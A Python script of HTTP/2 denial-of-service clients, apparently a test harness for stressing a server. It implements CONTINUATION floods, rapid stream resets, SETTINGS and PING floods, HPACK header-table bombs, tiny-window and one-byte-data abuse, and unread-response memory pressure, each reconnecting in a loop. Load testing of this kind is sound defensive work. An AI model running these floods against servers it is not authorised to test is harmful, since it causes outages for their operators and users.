#!/usr/bin/python3
"""Clients of HTTP/2 that cost a server more than themselves: http2_difficult.py NAME PORT SECONDS.

Each one runs until the time is over, on a new connection whenever the server ends one, and prints
how many connections and frames it has sent. test_http2_difficult.py runs each beside a normal
client.
"""

import sys
import time

import http2_client as h2
import raw
from http2_client import Client

GET = h2.block(h2.head())
WAITING = h2.block(h2.head("POST", "/pieces-digest?never"))


def endless_headers(client):
    """A header block that never ends."""
    number = client.new_stream()
    client.send(h2.headers(number, GET, complete=False))
    while True:
        yield h2.continuation(number, h2.literal("x-a", "b" * 1000), False) * 4


def empty_continuations(client):
    """A header block of empty frames."""
    number = client.new_stream()
    client.send(h2.headers(number, GET, complete=False))
    while True:
        yield h2.continuation(number, b"", False) * 100


def reset_streams(client):
    """Requests that are reset at once, so that they never count as open."""
    while True:
        numbers = [client.new_stream("POST") for _ in range(50)]
        yield b"".join(h2.headers(number, WAITING, end=False) + h2.reset(number)
                       for number in numbers)


def provoked_resets(client):
    """Requests that the server resets because of a frame after them."""
    while True:
        numbers = [client.new_stream("POST") for _ in range(50)]
        yield b"".join(h2.headers(number, WAITING, end=False) + h2.window_update(number, 0)
                       for number in numbers)


def settings_flood(client):
    """SETTINGS, each of which needs an acknowledgement."""
    while True:
        yield h2.settings((h2.INITIAL_WINDOW_SIZE, 100000), (h2.HEADER_TABLE_SIZE, 0)) * 100


def ping_flood(client):
    while True:
        yield h2.ping() * 100


def window_updates(client):
    """Windows that grow byte by byte, for streams that wait for more."""
    numbers = [client.request("GET", "/large?size=1000000") for _ in range(50)]
    while True:
        yield b"".join(h2.window_update(number, 1) for number in numbers)


def tiny_windows(client):
    """Large responses, of which the client accepts a byte at a time."""
    client.send(h2.settings((h2.INITIAL_WINDOW_SIZE, 0)))
    client.initial_window = 0
    while True:
        numbers = [client.request("GET", "/large?size=10000000") for _ in range(90)]
        for _ in range(5):
            yield b"".join(h2.window_update(number, 1) for number in numbers)
        yield b"".join(map(h2.reset, numbers))


def changing_priorities(client):
    """Responses that wait, whose order changes all the time."""
    client.send(h2.settings((h2.INITIAL_WINDOW_SIZE, 0)))
    client.initial_window = 0
    numbers = [client.request("GET", "/large?size=1000000") for _ in range(90)]
    urgency = 0
    while True:
        urgency = (urgency + 1) % 8
        yield b"".join(h2.priority_update(number, f"u={urgency}, i") for number in numbers)


def future_priorities(client):
    """Priorities of streams that do not exist yet."""
    number = 1
    while True:
        number = (number + 200) % 2**30 | 1
        yield b"".join(h2.priority_update(number + 2 * i, "u=1") for i in range(100))


def header_tables(client):
    """Fields that are stored in the table and evicted again, and the largest ones by reference."""
    big = h2.literal("x-big", "v" * 3900, 0x40)
    while True:
        number = client.new_stream()
        yield h2.headers(number, GET + big + b"\xbe" * 3)
        number = client.new_stream()
        small = b"".join(h2.literal("x", str(i), 0x40) for i in range(90))
        yield h2.headers(number, GET + small)


def repeated_field(client):
    """A block of 16 KB that is many MB of fields: one entry of the table, again and again."""
    while True:
        number = client.new_stream()
        big = h2.literal("x-big", "v" * 3900, 0x40)
        yield h2.headers(number, GET + big + b"\xbe" * 12000)


def small_data(client):
    """Uploads in frames of one byte."""
    while True:
        number = client.request("POST", "/digest", end=False)
        for _ in range(20):
            yield h2.data(number, b"x") * 100
        yield h2.data(number, b"", end=True)


def empty_data(client):
    """Frames that bring an upload no further."""
    number = client.request("POST", "/digest", end=False)
    while True:
        yield h2.data(number) * 100


def unread_responses(client):
    """Large responses that are never read, with windows that allow them."""
    client.send(h2.settings((h2.INITIAL_WINDOW_SIZE, h2.MAX_WINDOW)),
                h2.window_update(0, h2.MAX_WINDOW - h2.DEFAULT_WINDOW))
    for _ in range(90):
        client.request("GET", "/pieces-out?size=100000000&piece=60000")
    while True:
        time.sleep(0.05)
        yield h2.ping()


def unknown_frames(client):
    while True:
        yield h2.frame(0x42, 0, 0, bytes(100)) * 100


KINDS = {made.__name__: made for made in (
    endless_headers, empty_continuations, reset_streams, provoked_resets, settings_flood,
    ping_flood, window_updates, tiny_windows, changing_priorities, future_priorities, header_tables,
    repeated_field, small_data, empty_data, unread_responses, unknown_frames)}
# These do not read what the server sends.
UNREADING = (unread_responses, )


def read_available(client):
    """False after the end of the connection."""
    while client.is_readable(0):
        if client.step() is None:
            return False
    return True


def attack(kind, port, until):
    """One connection; returns the number of bytes sent."""
    sent = 0
    try:
        with Client(port, grants=False) as client:
            client.socket.settimeout(2)
            client.step()
            for data in kind(client):
                client.send(data)
                sent += len(data)
                if time.monotonic() > until:
                    break
                if kind not in UNREADING and not read_available(client):
                    break
    except (OSError, AssertionError):
        pass  # the server has closed the connection
    return sent


def main(name, port, seconds):
    until = time.monotonic() + float(seconds)
    connections = sent = 0
    while time.monotonic() < until:
        sent += attack(KINDS[name], int(port), until)
        connections += 1
    print(connections, sent)


if __name__ == "__main__":
    raw.SAFETY_TIMEOUT = 5
    main(*sys.argv[1:])
